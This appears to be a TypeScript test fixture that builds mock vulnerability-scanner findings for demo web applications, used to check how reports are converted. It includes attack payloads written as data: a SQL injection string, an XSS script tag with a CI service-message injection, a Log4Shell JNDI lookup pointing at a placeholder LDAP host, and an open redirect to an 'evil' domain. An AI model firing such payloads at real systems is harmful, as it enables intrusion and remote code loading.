/** The findings of the small applications of the demo subscription. */
import type { Vulnerability } from '../model.js';
import type { Sighting } from './findings.js';
import { KNOWLEDGE_BASE } from './knowledge-base.js';

function known(qid: number): Vulnerability {
  const vulnerability = KNOWLEDGE_BASE.find((candidate) => candidate.qid === qid);
  if (vulnerability === undefined) throw new RangeError(`no entry for QID ${qid}`);
  return vulnerability;
}

function seen(qid: number, url: string, more: Omit<Sighting, 'vulnerability' | 'url'> = {}): Sighting {
  return { vulnerability: known(qid), url, ...more };
}

const gathered = (...qids: readonly number[]): readonly Sighting[] =>
  qids.map((qid) => ({ vulnerability: known(qid) }));

/** Text that has to survive every converter on its way: markup, quotes, a CI tool's own command, other alphabets. */
const NASTY = `"'><script>alert(1)</script>&amp;]]>##teamcity[buildStatus]%0a`;

export function shopSightings(base: string): readonly Sighting[] {
  return [
    seen(150003, `${base}/search?q=1`, { param: 'q', payload: "1' OR '1'='1", authenticated: true }),
    seen(150001, `${base}/greet?name=x`, { param: 'name', payload: NASTY, response: `<p>Hello ${NASTY}</p>` }),
    seen(150001, `${base}/greet?name=x&lang=ελ`, { param: 'lang', payload: '<b>ü€𝄞</b>' }),
    seen(150440, `${base}/api/log`, { payload: '${jndi:ldap://192.0.2.1/x}' }),
    seen(150013, `${base}/comments`, { param: 'text', authenticated: true, from: 1 }),
    seen(150051, `${base}/go?to=https://evil.example.test/`, { param: 'to', again: 2, until: 1 }),
    seen(150158, `${base}/static/library.js`),
    seen(150158, `${base}/static/other-library.js`, { from: 2 }),
    seen(150053, 'http://shop-staging.example.test/login'),
    seen(150124, `${base}/`),
    seen(150124, `${base}/cart`),
    seen(150124, `${base}/checkout`, { from: 2 }),
    seen(150122, `${base}/`),
    seen(150112, `${base}/login`, {
      ignored: { reason: 'RISK_ACCEPTED', comment: 'Accepted until the new sign-in is there.' },
    }),
    seen(150246, `${base}/docs/`),
    seen(150011, `${base}/download?file=a`, { param: 'file', until: 1 }),
    seen(150012, `${base}/orders?id=7`, { param: 'id', until: 2 }),
    seen(150076, `${base}/#fragment`),
    seen(150084, `${base}/search?q=2`, { param: 'q' }),
    seen(150085, `${base}/`, { ignored: { reason: 'FALSE_POSITIVE', comment: 'A proxy limits requests.' } }),
    seen(150016, `${base}/receipt/1`, { response: 'Card 4111-xxxx-xxxx-1111' }),
    seen(150017, `${base}/profile/1`, { response: 'Number xxx-xx-1234' }),
    ...gathered(150009, 150010, 150020, 150021, 150054, 150115, 150142, 150148, 150176, 150206, 150210, 6, 45038),
  ];
}

/** Nothing but information: what a clean scan looks like. */
export const cleanSightings = (): readonly Sighting[] =>
  gathered(150009, 150010, 150021, 150142, 150148, 6, 45017, 45038);

export function portalSightings(base: string): readonly Sighting[] {
  return [
    seen(150053, `${base}/signin`),
    seen(150122, `${base}/`),
    seen(150112, `${base}/signin`),
    seen(150084, `${base}/find?w=1`, { param: 'w' }),
    ...gathered(150009, 150021, 150208, 45038),
  ];
}

export function membersSightings(base: string): readonly Sighting[] {
  return [
    seen(150013, `${base}/wall`, { param: 'message', authenticated: true }),
    seen(150158, `${base}/lib.js`),
    seen(150124, `${base}/`),
    ...gathered(150009, 150021, 150115, 45038),
  ];
}
